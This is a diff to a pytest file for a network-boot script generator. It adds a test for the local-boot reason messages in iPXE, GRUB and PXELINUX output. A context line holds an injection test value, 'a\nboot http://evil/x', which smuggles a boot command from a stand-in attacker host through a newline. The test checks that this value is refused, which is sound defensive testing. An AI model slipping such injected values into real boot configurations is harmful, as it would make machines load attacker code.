@@ -105,3 +105,23 @@ def test_ipxe_refuses_operator_tokens(scripts, cmdline):
 def test_every_format_refuses_newlines(scripts, method):
     with pytest.raises(BootScriptError):
         getattr(scripts, method)(install_spec(cmdline="a\nboot http://evil/x"), BASE)
+
+
+@pytest.mark.parametrize("imported", [False, True])
+def test_local_scripts_say_why(scripts, imported):
+    """A host booted by imported dhcpd.conf rules (netboot on, no profile) is
+    not told "netboot is off" when its file sends iPXE to our script URL."""
+    spec = BootSpec(mac=MAC, firmware=Firmware.EFI_X64, local=True, loader=None,
+                    script_url=f"{BASE}/boot/{MAC}.ipxe", imported=imported,
+                    profile=None if imported else "deb12")
+    why = "has imported boot rules and no install profile" if imported else "netboot is off"
+    ipxe = lines(scripts.ipxe(spec, BASE))
+    assert ipxe[0] == "#!ipxe"
+    assert f"echo Plowshare: {MAC} {why}, booting from the local disk" in ipxe
+    grub = lines(scripts.grub(spec, BASE))
+    assert f"echo 'Plowshare: {MAC} {why}, booting from the local disk'" in grub
+    pxelinux = scripts.pxelinux(spec, BASE)
+    assert ("imported boot rules, no install profile" in pxelinux) == imported
+    assert ("netboot is off" in pxelinux) != imported
+    if imported:
+        assert not any("netboot is off" in ln for ln in ipxe + grub)
